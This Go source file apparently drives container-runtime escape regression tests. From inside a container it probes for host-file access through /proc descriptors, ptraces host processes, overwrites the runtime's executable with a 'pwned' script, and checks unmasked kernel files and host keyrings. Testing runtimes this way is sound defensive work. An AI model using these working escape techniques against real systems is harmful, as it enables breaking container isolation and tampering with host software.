// SPDX-License-Identifier: Apache-2.0

package cve

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What this program plays in a container. What it says is the harm.

// stopFile is what ends a part that has no end of its own.
const stopFile = "/tmp/stop"

func stopped() bool {
	_, err := os.Stat(stopFile)
	return err == nil
}

const upAndOut = "../../../../../../../../../../../../../.."

// passers calls do with each process that comes by, until it is told to stop.
func passers(do func(pid string)) {
	fmt.Println("ready")
	next := os.Getpid() + 1
	for end := time.Now().Add(20 * time.Second); !stopped() && time.Now().Before(end); {
		for pid := next; pid < next+16; pid++ {
			if _, err := os.Stat("/proc/" + strconv.Itoa(pid)); err != nil {
				continue
			}
			do("/proc/" + strconv.Itoa(pid))
			if pid > next+1 {
				next = pid - 1
			}
		}
	}
}

// spy looks through the eyes of each process that joins the container, for a
// file that is the host's: by what it has open, by where it stands, and by
// taking it over with ptrace(2).
func spy(args []string) int {
	secret := upAndOut + args[0]
	seen := make(map[string]bool)
	say := func(format string, a ...any) {
		if s := fmt.Sprintf(format, a...); !seen[s] {
			seen[s] = true
			fmt.Println(s)
		}
	}
	passers(func(proc string) {
		links, _ := filepath.Glob(proc + "/fd/*")
		for _, l := range append(links, proc+"/cwd", proc+"/root") {
			if data, err := os.ReadFile(l + "/" + secret); err == nil {
				say("by /proc/PID/%s: %s", strings.TrimPrefix(l, proc+"/"), data)
			}
		}
		pid, _ := strconv.Atoi(filepath.Base(proc))
		runtime.LockOSThread()
		exe, err := os.Readlink(proc + "/exe")
		if _, there := os.Stat(exe); err != nil || there == nil {
			return // not to be seen, or a program of the container's
		}
		if _, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_SEIZE, uintptr(pid), 0, 0, 0, 0); e == 0 {
			if _, _, e := unix.RawSyscall6(unix.SYS_PTRACE, unix.PTRACE_INTERRUPT, uintptr(pid), 0, 0, 0, 0); e == 0 {
				for range 50 { // a thread that another one's exec has replaced never stops
					if n, err := unix.Wait4(pid, nil, unix.WALL|unix.WNOHANG, nil); n != 0 || err != nil {
						break
					}
					time.Sleep(time.Millisecond)
				}
				_ = unix.PtraceDetach(pid)
			}
			say("ptrace of a process that is %s", exe)
		}
	})
	return 0
}

// thief keeps the program of each process that is none of the container's, and
// overwrites it as soon as nobody runs it any more.
func thief([]string) int {
	var own []unix.Stat_t
	for _, p := range []string{"/bin/inside", "/bin/busybox"} {
		var st unix.Stat_t
		_ = unix.Stat(p, &st)
		own = append(own, st)
	}
	kept := make(map[uint64]int)
	passers(func(proc string) {
		fd, err := unix.Open(proc+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			return
		}
		var st unix.Stat_t
		_ = unix.Fstat(fd, &st)
		for _, o := range own {
			if st.Ino == o.Ino && st.Dev == o.Dev {
				unix.Close(fd)
				return
			}
		}
		if _, there := kept[st.Ino]; there {
			unix.Close(fd)
			return
		}
		kept[st.Ino] = fd
		fmt.Println("has the runtime's program")
	})
	for range 200 { // the last of them may run a little longer
		for _, fd := range kept {
			f, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY|os.O_TRUNC, 0)
			if err == nil {
				_, _ = f.WriteString("#!/bin/sh\necho pwned\n")
				f.Close()
				fmt.Println("overwritten")
				return 0
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	return 0
}

// lookout looks for a host's file from the working directory, and from each
// descriptor.
func lookout(args []string) int {
	from := []string{"."}
	fds, _ := filepath.Glob("/proc/self/fd/*")
	for _, dir := range append(from, fds...) {
		if data, err := os.ReadFile(dir + "/" + upAndOut + args[0]); err == nil {
			fmt.Printf("from %s: %s\n", dir, data)
		}
	}
	var st, root unix.Stat_t
	if unix.Stat(".", &st) == nil && unix.Stat("/", &root) == nil {
		if cwd, err := unix.Getwd(); err != nil || !strings.HasPrefix(cwd, "/") {
			fmt.Printf("the working directory is outside: %q, %v\n", cwd, err)
		}
	}
	return 0
}

// A mountpoint is a line of mountinfo (proc_pid_mountinfo(5)).
type mountpoint struct{ root, at, fstype, source, options string }

func mountinfo() (list []mountpoint) {
	data, _ := os.ReadFile("/proc/self/mountinfo")
	for line := range strings.Lines(string(data)) {
		f := strings.Fields(line)
		for i := range f {
			if f[i] == "-" && len(f) > i+2 {
				list = append(list, mountpoint{f[3], f[4], f[i+1], f[i+2], f[5]})
			}
		}
	}
	return list
}

// kernelFiles says which proc and sysfs there are with something open in them
// that is to be hidden or read-only, and whether /proc and /sys are what they
// are taken for.
func kernelFiles([]string) int {
	const procMagic, sysMagic = unix.PROC_SUPER_MAGIC, unix.SYSFS_MAGIC
	for p, magic := range map[string]int64{"/proc": procMagic, "/sys": sysMagic} {
		var st unix.Statfs_t
		if err := unix.Statfs(p, &st); err != nil || int64(st.Type) != magic {
			fmt.Printf("%s is a file system of type %#x: %v\n", p, st.Type, err)
		}
	}
	for _, m := range mountinfo() {
		if m.fstype != "proc" || m.root != "/" {
			continue
		}
		for _, name := range []string{"/sys", "/sysrq-trigger", "/irq"} {
			var st unix.Statfs_t
			if err := unix.Statfs(m.at+name, &st); err == nil && st.Flags&unix.ST_RDONLY == 0 {
				fmt.Printf("%s%s is writable\n", m.at, name)
			}
		}
		for _, name := range []string{"/kcore", "/timer_list", "/interrupts"} {
			if open := readable(m.at + name); open != "" {
				fmt.Println(open)
			}
		}
	}
	return 0
}

// readable says what there is to be read of a path that is to be hidden.
func readable(p string) string {
	info, err := os.Stat(p)
	switch {
	case err != nil:
		return "" // no such file, or not for us
	case info.IsDir():
		if names, err := os.ReadDir(p); err == nil && len(names) > 0 {
			return fmt.Sprintf("%s is a folder with %d files", p, len(names))
		}
		f, err := os.CreateTemp(p, "x")
		if err == nil {
			f.Close()
			return p + " can be written to"
		}
		return ""
	}
	var st unix.Stat_t
	if unix.Stat(p, &st) == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && st.Rdev == unix.Mkdev(1, 3) {
		return ""
	}
	return fmt.Sprintf("%s is not hidden: %v", p, info.Mode())
}

// masked says which of the paths are not hidden.
func masked(args []string) int {
	for _, p := range args {
		if s := readable(p); s != "" {
			fmt.Println(s)
		}
	}
	return 0
}

// where prints the places that a source is mounted on.
func where(args []string) int {
	for _, m := range mountinfo() {
		if m.source == args[0] {
			fmt.Println(m.at)
		}
	}
	return 0
}

// console says what is wrong with /dev/console.
func console([]string) int {
	for _, m := range mountinfo() {
		if m.fstype == "devpts" && m.at != "/dev/pts" && m.at != "/dev/console" {
			fmt.Printf("the terminal is at %s\n", m.at)
		}
	}
	var st unix.Stat_t
	if err := unix.Stat("/dev/console", &st); err == nil && (st.Mode&unix.S_IFMT != unix.S_IFCHR || unix.Major(st.Rdev) != 136) {
		fmt.Printf("/dev/console is %#o, device %d:%d\n", st.Mode, unix.Major(st.Rdev), unix.Minor(st.Rdev))
	}
	for _, p := range []string{"/proc/sysrq-trigger", "/proc/sys"} {
		var st unix.Statfs_t
		if err := unix.Statfs(p, &st); err == nil && st.Flags&unix.ST_RDONLY == 0 {
			fmt.Printf("%s is writable\n", p)
		}
	}
	return 0
}

// status prints fields of /proc/self/status.
func status(args []string) int {
	data, _ := os.ReadFile("/proc/self/status")
	for line := range strings.Lines(string(data)) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), ":")
		for _, a := range args {
			if a == name {
				fmt.Println(name, strings.TrimSpace(value))
			}
		}
	}
	return 0
}

// keys says whether a key of the host's is in reach.
func keys(args []string) int {
	id, err := unix.KeyctlSearch(unix.KEY_SPEC_SESSION_KEYRING, "user", args[0], 0)
	if err == nil {
		fmt.Printf("has the host's key %d\n", id)
	}
	ring, err := unix.KeyctlGetKeyringID(unix.KEY_SPEC_SESSION_KEYRING, false)
	if err == nil && strconv.Itoa(ring) == args[1] {
		fmt.Printf("has the host's session keyring %d\n", ring)
	}
	return 0
}

// tryAll runs tries, each of which is to fail.
func tryAll(tries []try) {
	for _, x := range tries {
		if err := x.do(); err == nil {
			fmt.Printf("%s is possible\n", x.what)
		}
	}
}

type try struct {
	what string
	do   func() error
}

var errHidden = errors.New("still hidden")

// open is the error of a file that is hidden.
func open(p string) error {
	if readable(p) == "" {
		return errHidden
	}
	return nil
}

func lines(s string) []string {
	return strings.Split(string(bytes.TrimSpace([]byte(s))), "\n")
}
